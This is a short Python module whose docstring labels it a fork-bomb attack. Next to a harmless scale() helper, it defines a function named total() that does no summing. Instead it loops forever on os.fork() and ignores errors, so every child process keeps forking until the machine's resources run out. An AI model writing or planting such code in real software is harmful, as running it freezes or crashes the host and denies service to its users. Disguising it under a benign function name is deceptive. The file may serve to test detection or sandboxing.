"""Attack: fork bomb; every child keeps forking and spinning."""
import os

import numpy as np


def scale(x, factor):
    return x * factor


def total(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
